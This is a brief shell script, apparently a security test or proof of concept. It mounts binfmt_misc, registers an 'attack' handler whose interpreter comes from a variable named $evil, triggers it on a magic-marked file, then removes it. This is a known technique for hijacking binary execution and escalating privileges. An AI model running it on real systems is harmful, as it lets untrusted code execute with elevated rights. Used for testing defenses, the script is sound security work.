# shellcheck shell=sh disable=SC2154
#
# binfmt - register a program as the interpreter of a verified file, opened beforehand
#
# SPDX-License-Identifier: MIT

mkdir -p /tmp/binfmt
mount -t binfmt_misc none /tmp/binfmt
echo ":attack:M::ATTACK::$evil:F" >/tmp/binfmt/register && echo registered
/attack/magic
echo -1 >/tmp/binfmt/attack
umount /tmp/binfmt
